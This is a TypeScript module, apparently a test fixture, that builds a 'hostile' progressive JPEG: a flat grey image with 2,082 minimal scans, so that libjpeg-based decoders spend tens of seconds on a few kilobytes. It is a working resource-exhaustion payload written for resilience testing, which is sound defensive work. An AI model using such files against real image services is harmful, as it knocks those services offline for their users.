/**
 * A valid progressive JPEG whose scan script is as long as the standard allows: one DC scan and,
 * per AC coefficient, a first scan at Al=10 followed by ten refinement scans, for each of
 * `components` components — 3 x (1 + 63 x 11) = 2,082 scans. Every coefficient but DC is zero
 * (a flat grey picture), so each scan is a few bytes of end-of-band runs; yet libjpeg walks every
 * block of the image once per scan, which is what makes such a file cost tens of seconds.
 * Written by hand (sharp cannot choose a scan script), with minimal Huffman tables.
 */

/** MSB-first bit writer with JPEG byte stuffing (0xFF is followed by 0x00) and 1-padding. */
class BitWriter {
  private readonly bytes: number[] = [];
  private acc = 0;
  private n = 0;

  write(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((value >> i) & 1);
      if (++this.n === 8) this.flushByte();
    }
  }

  private flushByte(): void {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0x00);
    this.acc = 0;
    this.n = 0;
  }

  finish(): Buffer {
    while (this.n !== 0) this.write(1, 1);
    return Buffer.from(this.bytes);
  }
}

const segment = (marker: number, body: number[]): Buffer =>
  Buffer.from([0xff, marker, ((body.length + 2) >> 8) & 0xff, (body.length + 2) & 0xff, ...body]);

/** AC table: the 15 end-of-band symbols EOB0..EOB14 (0x00, 0x10, …, 0xE0), all 4 bits long: code = n. */
const AC_EOB_CODE_LENGTH = 4;

/** Entropy-coded data of an all-zero AC scan over `blocks` blocks: end-of-band runs (max 32,767 each). */
function eobRuns(blocks: number): Buffer {
  const w = new BitWriter();
  for (let left = blocks; left > 0;) {
    const run = Math.min(left, 32767);
    const n = Math.floor(Math.log2(run));
    w.write(n, AC_EOB_CODE_LENGTH); // symbol (n << 4): EOBn
    if (n > 0) w.write(run - (1 << n), n);
    left -= run;
  }
  return w.finish();
}

export interface HostileJpegOptions {
  readonly width: number;
  readonly height: number;
  /** 1 (greyscale) or 3. @default 3 */
  readonly components?: number;
  /** Stop after this many scans (a shorter, still valid progression). @default all */
  readonly maxScans?: number;
}

/** Number of scans `longProgressiveJpeg` writes for `components` components. */
export const fullScanCount = (components: number): number => components * (1 + 63 * 11);

export function longProgressiveJpeg(opts: HostileJpegOptions): Buffer {
  const { width, height } = opts;
  const components = opts.components ?? 3;
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  parts.push(segment(0xdb, [0x00, ...new Array<number>(64).fill(1)])); // DQT 0: all ones
  const comps: number[] = [];
  for (let c = 1; c <= components; c++) comps.push(c, 0x11, 0);
  parts.push(
    segment(0xc2, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, components, ...comps]), // SOF2
  );
  const counts = (lengths: Record<number, number>) =>
    Array.from({ length: 16 }, (_, i) => lengths[i + 1] ?? 0);
  parts.push(segment(0xc4, [0x00, ...counts({ 1: 1 }), 0x00])); // DC table 0: category 0 only, code '0'
  const eobSymbols = Array.from({ length: 15 }, (_, n) => n << 4);
  parts.push(segment(0xc4, [0x10, ...counts({ [AC_EOB_CODE_LENGTH]: 15 }), ...eobSymbols])); // AC table 0
  const sos = (c: number, ss: number, se: number, ah: number, al: number) =>
    segment(0xda, [1, c, 0x00, ss, se, (ah << 4) | al]);
  // DC first scan: every block's DC difference is category 0 (one '0' bit each)
  const dc = new BitWriter();
  for (let b = 0; b < blocks; b++) dc.write(0, 1);
  const dcData = dc.finish();
  const acData = eobRuns(blocks);
  const scans: Buffer[] = [];
  for (let c = 1; c <= components; c++) scans.push(sos(c, 0, 0, 0, 0), dcData);
  for (let c = 1; c <= components; c++) {
    for (let k = 1; k <= 63; k++) {
      scans.push(sos(c, k, k, 0, 10), acData);
      for (let ah = 10; ah >= 1; ah--) scans.push(sos(c, k, k, ah, ah - 1), acData);
    }
  }
  const keep = Math.min(opts.maxScans ?? Infinity, scans.length / 2);
  parts.push(...scans.slice(0, keep * 2), Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}
